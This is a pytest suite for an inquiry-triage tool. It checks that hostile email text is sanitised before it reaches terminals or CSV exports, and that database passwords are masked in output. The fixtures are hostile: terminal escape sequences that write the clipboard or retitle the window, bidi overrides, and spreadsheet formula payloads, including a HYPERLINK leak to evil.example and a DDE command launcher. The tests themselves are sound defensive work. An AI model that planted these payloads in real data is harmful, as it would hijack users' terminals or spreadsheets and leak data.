"""Safe output (issue 8, item 6): nothing that came from an inquiry drives the terminal or a spreadsheet,
and no form of a database password is printed.

The helpers in inquiry_triage/safe_text.py are tested directly, then end to end: hostile names,
subjects, bodies and file names go through `triage` (table) into the store and out of `queue`,
`queue show`, `report suspicious` (text and csv), `report sla` and `status`."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
import unicodedata
from datetime import datetime, timezone
from pathlib import Path

import pytest

from inquiry_triage.notify import Reminder
from inquiry_triage.reports.status import render_status
from inquiry_triage.safe_text import BIDI_CONTROLS, for_spreadsheet, for_terminal, mask_secrets
from inquiry_triage.store.db import _without_secrets
from tests.growth import HARD_STOP, MOST_CHARS, cpu_seconds, growth

ROOT = Path(__file__).resolve().parents[1]

OSC_52 = "\x1b]52;c;ZXZpbC1jbGlwYm9hcmQ=\x07"  # "write evil-clipboard to the clipboard"
OSC_TITLE = "\x1b]0;pwned-title\x1b\\"
CLEAR = "\x1b[2J\x1b[H"
HOSTILE = f"Order {OSC_52}{CLEAR}{OSC_TITLE}\u202eredro\u2066x\u2069\x00\x9b31m\x07\x08\x7f now"
# Remnants of an escape sequence whose ESC alone was dropped. (The base64 clipboard text itself may
# show up inert in a rule's excerpt: a rule quotes what it matched, and without its ESC it is text.)
PAYLOADS = ("]52;", "[2J", "[31m", "]0;pwned")
FORMULAS = ['=HYPERLINK("http://evil.example/?leak","click me")', "@SUM(1)", "+cmd|' /C calc'!A0", "-2+3", "\t=1"]


def unsafe_chars(text: str, *, allow: str = "\n") -> list[str]:
    """Characters a terminal or a bidi renderer would act on: controls (but `allow`), bidi and format chars."""
    bad = []
    for ch in text:
        if ch in allow:
            continue
        if ch in BIDI_CONTROLS or unicodedata.category(ch) in ("Cc", "Cs") or (
                unicodedata.category(ch) == "Cf" and ch not in "\u200c\u200d"):
            bad.append(ch)
    return bad


def assert_safe(text: str, *, allow: str = "\n") -> None:
    assert unsafe_chars(text, allow=allow) == [], repr(text[:2000])
    for payload in PAYLOADS:
        assert payload not in text, payload


# --- the helpers -------------------------------------------------------------------------------

@pytest.mark.parametrize("raw, shown", [
    (f"a{OSC_52}b", "ab"),                      # OSC with its payload, BEL-terminated
    (f"a{OSC_TITLE}b", "ab"),                   # ... ST-terminated
    ("a\x1b[2J\x1b[1;31mb", "ab"),              # CSI
    ("a\x9b2Jb", "ab"),                          # 8-bit CSI
    ("a\x9d0;t\x9cb", "ab"),                     # 8-bit OSC and ST
    ("a\x1bPq#0;1\x1b\\b", "ab"),               # DCS (sixel)
    ("a\x1b(Bb\x1bcc", "abc"),                  # charset and reset escapes
    ("a\x1b]unterminated", "aunterminated"),     # no terminator: the introducer goes, the text is inert
    ("\u202eevil\u202c \u2066x\u2069\u200e\u200f\u061c", "evil x"),
    ("zero\u200bwidth\ufefftag\U000e0041s", "zerowidthtags"),
    ("nul\x00bell\x07bs\x08del\x7f", "nulbellbsdel"),
    ("tab\there\r\nnext\u2028line", "tab here  next line"),
    ("lone \ud800 surrogate", "lone \ufffd surrogate"),
    ("emoji \U0001f469\u200d\U0001f4bb and \u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645", None),  # ZWJ/ZWNJ kept
    ("Grüße, 你好, مرحبا, Привет", None),
])
def test_for_terminal(raw: str, shown: str | None):
    assert for_terminal(raw) == (raw if shown is None else shown)


def test_for_terminal_multiline_keeps_lines_but_not_carriage_returns():
    assert for_terminal("one\r\ntwo\rthree\u2028four\x1b[2K", multiline=True) == "one\ntwo\nthree\nfour"
    assert for_terminal(None) == "" and for_terminal(12) == "12"


# Hostile inputs of n units (n as issue 8's crafted ones had it: 50,000 to 100,000 characters), for the
# terminal and spreadsheet cleaners and for the secret masking. safe_text keeps no cache, so the salt of
# a run (tests/growth.py) is written first, where it changes no escape sequence nor key.
TERMINAL_WORST = {
    "osc-introducers": (lambda n: "\x1b]" * n, 50_000),
    "csi-parameters": (lambda n: "\x1b[" + "1;" * n, 50_000),
    "c1-osc": (lambda n: "\x9d" * n, 100_000),
    "c1-csi": (lambda n: "\x9b" * n, 100_000),
    "osc-and-c1-osc": (lambda n: "\x1b]\x9d" * n, 50_000),
    "escapes": (lambda n: "\x1b" * n, 100_000),
    "dcs-introducers": (lambda n: "\x1bP" * n, 50_000),
    "bidi-overrides": (lambda n: "\u202e" * n, 100_000),
    "unterminated-osc-52": (lambda n: "\x1b]52;" + "A" * n, 100_000),
    "unterminated-oscs": (lambda n: ("\x1b]" + "A" * 1000) * n, 100),
}
SECRET_WORST = {
    "url-userinfo-starts": (lambda n: "://a:" * n, 30_000),
    "quoted-password-values": (lambda n: "password='" * n, 20_000),
    "quoted-password-keys": (lambda n: "'password':" * n, 20_000),
    "unended-userinfo": (lambda n: "://a:" + "b" * n, 100_000),
    "at-signs": (lambda n: "a@" * n, 50_000),
    "escaped-password": (lambda n: 'password="' + "\\x" * n, 50_000),
}


def _cleaned(text: str) -> None:
    for_terminal(text)
    for_spreadsheet(text)


def test_for_terminal_is_linear_on_hostile_input():
    problems = []
    for name, (make, issue_size) in TERMINAL_WORST.items():
        text = make(issue_size)
        out: list[str] = []
        # the issue's own size, run once: a hang there fails (HARD_STOP) instead of stalling the suite
        assert cpu_seconds(lambda: out.append(for_terminal(text))) < HARD_STOP, name
        assert unsafe_chars(out[0]) == [], name
        unit = max(1, len(make(2)) - len(make(1)))
        found = growth(lambda n, salt, make=make: f"{salt} " + make(n), _cleaned, start=1, most=MOST_CHARS // unit)
        problems += [f"{name}: {found.problem()}"] if found.problem() else []
    for name, (make, issue_size) in SECRET_WORST.items():
        text = make(issue_size)
        assert cpu_seconds(lambda: mask_secrets(text, "ab")) < HARD_STOP, name
        unit = max(1, len(make(2)) - len(make(1)))
        found = growth(lambda n, salt, make=make: f"{salt} " + make(n), lambda text: mask_secrets(text, "ab"), start=1,
                       most=MOST_CHARS // unit)
        problems += [f"{name}: {found.problem()}"] if found.problem() else []
    assert not problems, problems


@pytest.mark.parametrize("cell, out", [
    ('=HYPERLINK("http://evil.example","x")', '\'=HYPERLINK("http://evil.example","x")'),
    ("@SUM(1)", "'@SUM(1)"),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("\t=1", "' =1"),
    ("\r=1", "' =1"),
    ("  =1+1", "'  =1+1"),                     # leading blanks do not hide a formula
    ("=\x1b[2J1", "'=1"),                       # cleaned like terminal text too
    ("-2", "-2"), ("+3.5", "+3.5"), ("-1e5", "-1e5"), (".5", ".5"),  # plain numbers are data: kept
    ("- item", "'- item"), ("@john", "'@john"),
    ("hello = world", "hello = world"), ("", ""),
    (-3, -3), (2.5, 2.5), (None, None),
])
def test_for_spreadsheet(cell, out):
    assert for_spreadsheet(cell) == out


@pytest.mark.parametrize("text", [
    "postgresql+psycopg://user:S3cr3t-pw@db.example:5432/triage",
    "postgresql://user@db.example/triage?sslmode=require&password=S3cr3t-pw",
    "postgresql://user@db.example/triage?password=S3cr3t-pw",
    "host=db.example user=user password=S3cr3t-pw dbname=triage",
    "host=db.example password='S3cr3t-pw with space' dbname=triage",
    '{"password": "S3cr3t-pw"}',
    "imaps://me:S3cr3t-pw@mail.example:993/INBOX",
    "postgresql://user:S3cr3t-pw@with@at@db.example/triage",
    "INQUIRY_TRIAGE_IMAP_PASSWORD=S3cr3t-pw",
])
def test_mask_secrets_hides_every_form(text: str):
    masked = mask_secrets(text)
    assert "S3cr3t" not in masked and "***" in masked


def test_mask_secrets_known_and_percent_encoded():
    assert mask_secrets("failed for p@ss/w0rd and p%40ss%2Fw0rd", "p@ss/w0rd") == "failed for *** and ***"
    url = "postgresql://u:p%40ss%2Fw0rd@h/db?password=other-pw"
    message = _without_secrets(f"could not connect to {url}: password=p@ss/w0rd rejected, other-pw too", url)
    assert "p@ss" not in message and "p%40ss" not in message and "other-pw" not in message
    assert "postgresql://u:***@h/db" in message


def test_status_and_reminders_are_cleaned():
    data = {"healthy": False, "checked_at": "2026-11-20T10:00:00+00:00",
            "mailboxes": [{"mailbox": "sales", "folder": f"INBOX{CLEAR}", "state": "failing", "last_success": None,
                           "last_error": f"server said: {OSC_52} \u202ehello", "last_error_at": "2026-11-20T09:59:00+00:00",
                           "failures_in_a_row": 3, "seen": 1, "triaged": 0, "failed": 1}],
            "queue": {"open_by_grade": {"A": 0, "B": 0, "C": 1, "D": 0}, "overdue": 0, "in_review": 0},
            "inquiries": {"triaged": 1, "failed": 1}}
    text = render_status(data)
    assert_safe(text)
    assert "INBOX" in text and "server said" in text
    line = Reminder(task_id=1, grade="C", state="due", due="2026-11-20T10:00", assignee=None,
                    subject=HOSTILE, sender=f"evil{CLEAR}@example.com").line()
    assert_safe(line, allow="")
    assert "redro" in line and "evil@example.com" in line


# --- end to end --------------------------------------------------------------------------------

FAKE_ORDER = ("Dear customer service, I am John Tom and I am sending this E-mail to order some sweaters. I will like "
              "you to email me back with sizes, types and prices you have in stock, and also let me know the type of "
              "credit card you accept for payment, and can you email me with your contact full name and phone number "
              "that I can call to place the order. Thanks")


def cli(*args: str, cwd: Path) -> subprocess.CompletedProcess:
    env = {**os.environ, "INQUIRY_TRIAGE_CONFIG": "", "INQUIRY_TRIAGE_DB": "", "INQUIRY_TRIAGE_USER": "lead"}
    result = subprocess.run([sys.executable, "-m", "inquiry_triage", *args], capture_output=True, env=env, cwd=cwd,
                            timeout=600)
    # Output must be valid UTF-8 (a lone surrogate would have crashed the print or been written raw).
    result.stdout, result.stderr = result.stdout.decode("utf-8"), result.stderr.decode("utf-8")
    return result


def _record(n: int, subject: str, name: str = "John Tom") -> dict:
    return {"id": f"hostile-{n}", "channel": "email", "received_at": "2026-11-19T03:14:00+00:00", "name": name,
            "email": "john_tom36@gmail.com", "country": "Nigeria", "subject": subject,
            "body": f"{FAKE_ORDER}\n{HOSTILE}\nJohn"}


def _hostile_inputs(folder: Path) -> Path:
    folder.mkdir()
    records = [_record(0, HOSTILE, name=f"John {CLEAR}Tom\u202e")]
    records += [_record(n, subject) for n, subject in enumerate(FORMULAS, start=1)]
    (folder / "hostile.jsonl").write_text("".join(json.dumps(r) + "\n" for r in records) + "{not json\n")
    # A raw .eml: escapes in an encoded-word subject and a display name, and a hostile file name.
    subject = "=?utf-8?b?" + __import__("base64").b64encode(f"Urgent {OSC_52}{CLEAR}\u202eredro".encode()).decode() + "?="
    eml = (f"From: =?utf-8?q?Evil=1B=5B2J_=E2=80=AEName?= <john_tom36@gmail.com>\nTo: sales@our-factory.example\n"
           f"Subject: {subject}\nDate: Tue, 10 Nov 2026 02:12:31 +0100\nMessage-ID: <hostile-eml@example.com>\n"
           f"Content-Type: text/plain; charset=utf-8\n\n{FAKE_ORDER}\n{HOSTILE}\n")
    (folder / f"order{CLEAR}\u202egpj.eml").write_bytes(eml.encode("utf-8"))
    return folder


def test_hostile_text_never_reaches_the_terminal_or_a_spreadsheet(tmp_path: Path):
    inputs = _hostile_inputs(tmp_path / "in")
    db = f"sqlite:///{tmp_path / 'triage.db'}"

    triage = cli("triage", str(inputs), "--db", db, "--offline", "--no-progress", cwd=tmp_path)
    assert triage.returncode == 0, triage.stderr
    assert_safe(triage.stdout)
    assert_safe(triage.stderr)
    assert "FAILED" in triage.stdout  # the bad JSONL line: its source (the file name) is shown, cleaned
    assert triage.stdout.count("\n") >= 1 + len(FORMULAS) + 3

    queue = cli("queue", "review", "--db", db, cwd=tmp_path)  # the fake orders are suspicious: review tasks
    assert queue.returncode == 0, queue.stderr
    assert_safe(queue.stdout)
    task_ids = [int(line.split()[0]) for line in queue.stdout.splitlines()[1:] if line[:5].strip().isdigit()]  # not the footer
    assert len(task_ids) >= len(FORMULAS) + 2
    for task_id in task_ids:
        show = cli("queue", "show", str(task_id), "--db", db, cwd=tmp_path)
        assert show.returncode == 0, show.stderr
        assert_safe(show.stdout)
        assert "Subject:" in show.stdout and "Message:" in show.stdout

    # An agent's name is typed by a person, but still printed: it is cleaned and neutralised too.
    replied = cli("queue", "reply", str(task_ids[0]), "--db", db, "--user", f"=evil{CLEAR}", cwd=tmp_path)
    assert replied.returncode == 0, replied.stderr

    text = cli("report", "suspicious", "--db", db, cwd=tmp_path)
    assert text.returncode == 0, text.stderr
    assert_safe(text.stdout)
    assert "redro" in text.stdout  # the visible text stays, only the invisible and the escapes go
    sla = cli("report", "sla", "--by", "agent", "--db", db, cwd=tmp_path)
    assert sla.returncode == 0 and "=evil" in sla.stdout
    assert_safe(sla.stdout)
    status = cli("status", "--db", db, cwd=tmp_path)
    assert status.returncode == 0
    assert_safe(status.stdout)

    # CSV: every cell free of controls (the writer's own \r\n ends rows) and no cell starts a formula.
    for report in (("suspicious",), ("sla", "--by", "agent")):
        out = cli("report", *report, "--format", "csv", "--db", db, cwd=tmp_path)
        assert out.returncode == 0, out.stderr
        assert_safe(out.stdout, allow="\r\n")
        rows = list(csv.reader(io.StringIO(out.stdout, newline="")))
        cells = [cell for row in rows[1:] for cell in row]
        for cell in cells:
            stripped = cell.lstrip()
            if stripped[:1] in "=+-@" and stripped[:1]:
                assert for_spreadsheet(stripped) == stripped, f"formula cell not neutralised: {cell!r}"
        if report[0] == "suspicious":
            subjects = {row[rows[0].index("subject")] for row in rows[1:]}
            for formula in FORMULAS:
                assert any(s.startswith("'") and s.lstrip("' ").startswith(formula.strip()[:4]) for s in subjects), formula
        else:
            assert any(cell.startswith("'=evil") for cell in cells)

    # JSON stays raw for scripts, and json escapes the C0 controls: no raw ESC reaches a terminal that cats it.
    raw = cli("queue", "--db", db, "--format", "json", cwd=tmp_path)
    assert "\x1b" not in raw.stdout and "\x07" not in raw.stdout and "\x00" not in raw.stdout


@pytest.mark.parametrize("url", [
    "postgresql+psycopg://triage:S3cr3t-pw@127.0.0.1:1/triage",
    "postgresql+psycopg://triage@127.0.0.1:1/triage?password=S3cr3t-pw",
    "postgresql+psycopg://triage@127.0.0.1:1/triage?sslmode=disable&password=S3cr3t-pw&connect_timeout=5",
    "postgresql+psycopg://triage:S3cr3t%2Dpw%40x@127.0.0.1:1/triage",
    "postgresql+psycopg:///triage?host=127.0.0.1&port=1&user=triage&password=S3cr3t-pw",
    "nosuchdialect://triage:S3cr3t-pw@127.0.0.1:1/triage",
    "postgresql+nosuchdriver://triage:S3cr3t-pw@127.0.0.1:1/triage",
    "sqlite:////nonexistent-dir/triage.db?password=S3cr3t-pw",
])
def test_database_url_password_is_masked_in_the_error_line(tmp_path: Path, url: str):
    for args in (("queue",), ("status",), ("report", "suspicious")):
        result = cli(*args, "--db", url, cwd=tmp_path)
        assert result.returncode != 0
        assert "S3cr3t" not in result.stderr + result.stdout, result.stderr
        assert "error" in result.stderr and "Traceback" not in result.stderr


def test_reports_render_hostile_rows_directly():
    from types import SimpleNamespace

    from inquiry_triage.reports.suspicious import render_suspicious

    reason = {"rule": "ASKS_CARD_TYPES", "points": 2.5, "kind": "scam", "detail": f"[body]: '{HOSTILE}'"}
    row = SimpleNamespace(id=1, message_id="<m@x>", triaged_at=datetime(2026, 11, 20, tzinfo=timezone.utc),
                          result={"suspicion": ["scam"], "reasons": [reason], "ip_country": f"N{CLEAR}G"},
                          risk=5.0, grade="D", channel="email", from_addr=f"=evil{CLEAR}@x.example",
                          subject=HOSTILE, source=f"@in/{CLEAR}x.eml")
    assert_safe(render_suspicious([row], "table"))
    out = render_suspicious([row], "csv")
    assert_safe(out, allow="\r\n")
    cells = next(r for r in csv.reader(io.StringIO(out, newline="")) if r[0] == "1")
    assert cells[6] == "'=evil@x.example" and cells[10] == "'@in/x.eml"
    page = render_suspicious([row], "html")
    assert "\u202e" not in page and "\x1b" not in page
